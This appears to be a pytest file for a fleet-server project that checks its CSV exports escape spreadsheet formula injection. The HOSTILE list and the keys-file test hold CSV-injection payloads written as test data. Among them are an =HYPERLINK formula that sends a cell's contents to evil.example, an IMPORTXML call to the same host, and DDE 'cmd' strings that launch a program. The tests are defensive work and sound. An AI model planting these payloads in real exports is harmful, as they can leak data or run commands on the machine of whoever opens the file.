"""CSV exports never hand a spreadsheet a formula (OWASP "CSV Injection"): names a device chose
(agent, model, session) and names an admin typed (device names in a keys file) that begin with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return are written as text. Real SQLite."""

from __future__ import annotations

import csv
import io

import pytest
from usage_seed import add_device

from fleet_server.dashboard.parts.usage_csv import from_csv, to_csv
from fleet_server.devices.bulk import keys_csv_line
from fleet_server.devices.registry import NewDevice
from fleet_server.exports.csv_cells import FORMULA_STARTS, safe_cell
from fleet_server.store.db import open_database
from fleet_server.store.models import Device, db
from fleet_server.store.usage import sums
from fleet_server.store.usage.ledger import insert_usage

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", '=IMPORTXML("http://evil.example","//a")']


def formula_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row if c.startswith(FORMULA_STARTS)]


@pytest.fixture
def hostile_usage(tmp_path):
    open_database(tmp_path)
    add_device("box")
    rows = [{"device": "box", "id": f"r{i}", "ts": 1_795_000_000_000 + i, "agent_id": name, "session_id": name,
             "provider": "", "model": name, "input_tokens": 1, "output_tokens": 1, "cache_read_tokens": 0,
             "cache_write_tokens": 0, "total_tokens": 2, "cost_usd": None, "source": "transcript"}
            for i, name in enumerate(HOSTILE)]
    with db.atomic():
        insert_usage(rows)


@pytest.mark.parametrize("group", ["agent", "model", "session"])
def test_usage_csv_has_no_formula_cells(hostile_usage, group):
    rows = sums.usage([group])
    text = to_csv(rows, [group])
    assert formula_cells(text) == []
    assert sorted(r[group] for r in from_csv(text)) == sorted(HOSTILE), "the names survive, as text"


def test_keys_file_has_no_formula_cells(tmp_path):
    open_database(tmp_path)
    dev = Device(id="box", name="=cmd|' /C calc'!A0", key_hash="0", key_hint="0", created_ms=1)
    line = keys_csv_line(NewDevice(dev, "cfk_key", "cft_token"))
    assert formula_cells(line) == [] and "'=cmd" in line


def test_numbers_stay_numbers():
    assert safe_cell(-5) == -5 and safe_cell(1.5) == 1.5 and safe_cell(None) is None
    assert safe_cell("plain") == "plain" and safe_cell("-x") == "'-x"


def test_sessions_runs_tools_and_versions_exports_have_no_formula_cells():
    from fleet_server.dashboard.parts.table_csv import table_csv

    text = table_csv(["session_key", "tool", "turns"], [{"session_key": h, "tool": h, "turns": 3} for h in HOSTILE])
    assert formula_cells(text) == [] and text.count("'") >= 2 * len(HOSTILE)
